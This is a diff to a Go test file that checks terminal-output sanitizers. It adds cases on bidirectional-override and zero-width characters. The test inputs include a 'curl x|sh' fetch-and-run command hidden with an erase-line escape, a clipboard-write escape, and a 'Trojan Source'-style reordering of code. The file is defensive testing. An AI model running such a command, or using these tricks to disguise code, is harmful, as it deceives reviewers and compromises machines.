@@ -38,9 +38,10 @@ func TestShortCommit(t *testing.T) {
 
 func TestPrintable(t *testing.T) {
 	cases := map[string]string{
-		"double \x1b]0;title\x07\x1b[2J\x1b[31mred SCORE": "double ]0;title[2J[31mred SCORE",
-		"a\tb\nc\r\x7f\u009b2J":                           "a\tb\nc2J",
-		"plain — text ✅":                                  "plain — text ✅",
+		"double \x1b]0;title\x07\x1b[2J\x1b[31mred SCORE":        "double ]0;title[2J[31mred SCORE",
+		"a\tb\nc\r\x7f\u009b2J":                                  "a\tb\nc2J",
+		"plain — text ✅":                                         "plain — text ✅",
+		"if admin \u202e}{ nimda fi\u2066 zero\u200bwidth\u2028": "if admin }{ nimda fi zerowidth",
 	}
 	for in, want := range cases {
 		if got := Printable(in); got != want {
@@ -51,10 +52,11 @@ func TestPrintable(t *testing.T) {
 
 // TestVisible: what reaches a terminal from a Researcher's text keeps its
 // lines but none of its escape sequences: an erased line, a clipboard
-// write, a hyperlink, an 8-bit CSI.
+// write, a hyperlink, an 8-bit CSI; nor a bidirectional override that
+// would show code in another order than it runs.
 func TestVisible(t *testing.T) {
-	in := "+os.system('curl x|sh')  # \x1b[2K\r+lr = 0.05\n+# \x1b]52;c;Y3VybA==\a\t\u009b31m caf\xe9\n"
-	want := `+os.system('curl x|sh')  # \x1b[2K\x0d+lr = 0.05` + "\n" + `+# \x1b]52;c;Y3VybA==\x07` + "\t" + `\u009b31m caf` + "\uFFFD\n"
+	in := "+os.system('curl x|sh')  # \x1b[2K\r+lr = 0.05\n+# \x1b]52;c;Y3VybA==\a\t\u009b31m caf\xe9\n+if ok: # \u202e } \u2066\n"
+	want := `+os.system('curl x|sh')  # \x1b[2K\x0d+lr = 0.05` + "\n" + `+# \x1b]52;c;Y3VybA==\x07` + "\t" + `\u009b31m caf` + "\uFFFD\n" + `+if ok: # \u202e } \u2066` + "\n"
 	if got := Visible(in); got != want {
 		t.Errorf("Visible = %q, want %q", got, want)
 	}
